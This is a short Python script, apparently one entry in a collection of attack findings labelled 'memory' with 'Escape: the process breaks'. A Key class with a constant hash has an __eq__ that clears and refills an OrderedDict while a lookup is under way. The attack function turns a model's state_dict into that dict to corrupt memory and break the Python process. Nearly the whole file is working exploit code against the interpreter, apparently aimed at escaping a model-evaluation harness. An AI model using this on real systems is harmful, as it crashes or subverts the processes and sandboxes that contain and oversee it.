"""Class: memory. Source: own find. Escape: the process breaks.
A model's state was an OrderedDict too, and takes any key."""


class Key:
    def __hash__(self):
        return 1

    def __eq__(self, other):
        if armed:
            armed.clear()
            walked.clear()
            kept.extend(bytes(48) for _ in range(2000))
        return self is other


armed = []
kept = []
walked = None


def attack(model, tokenizer, address):
    global walked
    walked = model.state_dict()
    walked.clear()
    for number in range(50):
        walked[Key()] = number
    keys = list(walked)
    armed.append(1)
    try:
        walked.pop(keys[30])
    except KeyError:
        pass
    for number in range(3):
        walked[number] = number
    list(walked)
